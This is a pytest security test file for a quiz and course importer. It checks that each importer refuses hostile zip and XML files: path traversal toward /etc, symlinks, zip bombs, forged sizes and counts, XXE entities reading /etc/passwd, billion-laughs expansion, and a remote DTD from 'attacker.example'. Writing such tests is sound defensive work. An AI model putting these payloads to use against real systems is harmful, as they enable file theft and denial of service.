"""Files made to do harm, sent to each importer: refused whole and by name, before anything of them is used."""

import io
import stat
import struct
import time
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from server.base.archive import EntryBroken, Limits, open_archive
from server.base.errors import AppError
from server.catalog.cartridge import read_cartridge
from server.catalog.portable.reading import read_course_file
from server.imports.questions import FILE_BYTES_MAX, read_document
from server.imports.schemas import QuestionsKind
from tests.support.cartridges import zipped

KEY = b"k" * 32
ZIPS: dict[str, Callable[[Path], object]] = {
    "cartridge": read_cartridge,
    "course": lambda path: read_course_file(path, signing_key=KEY),
    "qti": lambda path: read_document(path, "qti"),
}
TEXTS: tuple[QuestionsKind, ...] = ("gift", "aiken", "csv", "moodle_xml", "qti")
XMLS: tuple[QuestionsKind, ...] = ("moodle_xml", "qti")
ENTRIES = {"imsmanifest.xml": b"<manifest/>", "manifest.json": b"{}", "a.xml": b"<a/>"}


def with_entry(name: str, content: bytes = b"x", *, mode: int = stat.S_IFREG | 0o644, of: bytes | None = None) -> bytes:
    body = io.BytesIO(of or zipped(ENTRIES))
    with zipfile.ZipFile(body, "a", zipfile.ZIP_DEFLATED) as packed:
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        info.compress_type = zipfile.ZIP_DEFLATED
        packed.writestr(info, content)
    return body.getvalue()


def locked() -> bytes:
    content = bytearray(zipped(ENTRIES))
    content[content.find(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def of_zip64() -> bytes:
    content = zipped(ENTRIES)
    end = content.rfind(b"PK\x05\x06")
    return content[:end] + b"PK\x06\x07" + struct.pack("<IQI", 0, 0, 1) + content[end:]


def of_many() -> bytes:
    """The end record alone says a hundred thousand: nobody needs to read their names to know."""
    content = bytearray(zipped(ENTRIES))
    end = content.rfind(b"PK\x05\x06")
    struct.pack_into("<HHI", content, end + 8, 65_535, 65_535, 100_000 * 60)
    return bytes(content)


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "leads up": (lambda: with_entry("../../etc/cron.d/x"), "archive.unsafe_name"),
    "absolute": (lambda: with_entry("/etc/passwd"), "archive.unsafe_name"),
    "a drive": (lambda: with_entry("C:/windows/x"), "archive.unsafe_name"),
    "a link": (lambda: with_entry("link", b"/etc/passwd", mode=stat.S_IFLNK | 0o777), "archive.link"),
    "a device": (lambda: with_entry("dev", mode=stat.S_IFCHR | 0o600), "archive.link"),
    "a bomb": (lambda: with_entry("bomb", b"\0" * 9_000_000), "archive.bomb"),
    "10^5 entries": (of_many, "archive.too_many_entries"),
    "zip64": (of_zip64, "archive.too_many_entries"),
    "locked": (locked, "archive.encrypted"),
    "one name twice": (
        lambda: with_entry("q.xml").replace(b"q.xml", b"a.xml"),
        "archive.duplicate_name",
    ),
    "one name in two forms": (
        lambda: with_entry(unicodedata.normalize("NFD", "é.xml"), of=with_entry("é.xml")),
        "archive.duplicate_name",
    ),
    "a way up in the names of Windows": (lambda: with_entry("QQ/QQ/x").replace(b"QQ/", b"..\\"), "archive.unsafe_name"),
    "odd compression": (lambda: zipped(ENTRIES, compression=zipfile.ZIP_BZIP2), "archive.compression"),
    "cut off": (lambda: zipped(ENTRIES)[:-30], "archive.not_a_zip"),
}


def refused(read: Callable[[Path], object], path: Path, content: bytes) -> str:
    path.write_bytes(content)
    started = time.process_time()
    with pytest.raises(AppError) as refusal:
        read(path)
    assert time.process_time() - started < 5, "a refusal that costs this much is an attack that works"
    assert "root:" not in refusal.value.message
    return refusal.value.code


@pytest.mark.parametrize("kind", ZIPS)
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_zip_is_refused_by_each_importer_for_the_same_reason(tmp_path: Path, kind: str, name: str) -> None:
    make, code = HOSTILE[name]

    assert refused(ZIPS[kind], tmp_path / "file.zip", make()) == code
    assert [path.name for path in tmp_path.iterdir()] == ["file.zip"], "something was unpacked"


@pytest.mark.parametrize("said", [1, 500_000, 2_000_000])
def test_an_entry_that_lies_about_its_size_gives_nothing_and_costs_no_more_than_it_says(
    tmp_path: Path, said: int
) -> None:
    content = bytearray(with_entry("big.xml", b"0123456789" * 100_000))
    entry = content.rindex(b"PK\x01\x02")
    struct.pack_into("<I", content, entry + 24, said)
    path = tmp_path / "file.zip"
    path.write_bytes(bytes(content))

    with open_archive(path, Limits(ratio=10**6)) as archive:
        for unpack in (
            lambda: archive.read("big.xml", bytes_max=10_000_000),
            lambda: archive.copy("big.xml", tmp_path / "big"),
            lambda: archive.check("big.xml"),
        ):
            with pytest.raises(EntryBroken):
                unpack()
    assert (tmp_path / "big").stat().st_size <= said


@pytest.mark.parametrize("kind", XMLS)
@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE q [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE q [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE q [<!ENTITY % e SYSTEM "http://attacker.example/x.dtd"> %e;]>',
    ],
    ids=["a file of ours", "a billion laughs", "a file of theirs"],
)
def test_entities_are_refused_wherever_xml_is_read(tmp_path: Path, kind: QuestionsKind, doctype: str) -> None:
    content = f'<?xml version="1.0"?>{doctype}<quiz><question type="x">&e;&b;</question></quiz>'.encode()

    code = refused(lambda path: read_document(path, kind), tmp_path / "file.xml", content)

    assert code == "questions.entities"


def test_entities_inside_a_packed_manifest_are_refused(tmp_path: Path) -> None:
    manifest = b'<?xml version="1.0"?><!DOCTYPE m [<!ENTITY e SYSTEM "file:///etc/passwd">]><manifest>&e;</manifest>'
    packed = zipped({"imsmanifest.xml": manifest})

    assert refused(ZIPS["qti"], tmp_path / "file.zip", packed) == "questions.entities"
    assert refused(ZIPS["cartridge"], tmp_path / "file.zip", packed) == "cartridge.bad_manifest"


@pytest.mark.parametrize("kind", TEXTS)
def test_letters_of_no_encoding_are_refused_or_cost_nothing(tmp_path: Path, kind: QuestionsKind) -> None:
    code = refused(lambda path: read_document(path, kind), tmp_path / "file", b"\x80\x81\xc3\x28" * 50)

    assert code in {"questions.encoding", "questions.format"}


@pytest.mark.parametrize("kind", TEXTS)
def test_a_file_larger_than_we_take_is_refused_before_it_is_read(tmp_path: Path, kind: QuestionsKind) -> None:
    path = tmp_path / "file"
    with path.open("wb") as file:
        file.truncate(FILE_BYTES_MAX + 1)

    with pytest.raises(AppError) as refusal:
        read_document(path, kind)
    assert refusal.value.code == "questions.too_large"


@pytest.mark.parametrize("kind", TEXTS)
def test_a_hundred_thousand_questions_are_refused(tmp_path: Path, kind: QuestionsKind) -> None:
    many = {
        "gift": b"Q {T}\n\n" * 100_000,
        "aiken": b"Q?\nA. x\nB. y\nANSWER: A\n\n" * 100_000,
        "csv": b"title,kind,prompt,answer\n" + b"a,true_false,Q,true\n" * 100_000,
        "moodle_xml": b"<quiz>" + b'<question type="truefalse"/>' * 100_000 + b"</quiz>",
        "qti": b"<questestinterop>" + b"<item/>" * 100_000 + b"</questestinterop>",
    }[kind]

    assert refused(lambda path: read_document(path, kind), tmp_path / "file", many) == "questions.too_large"
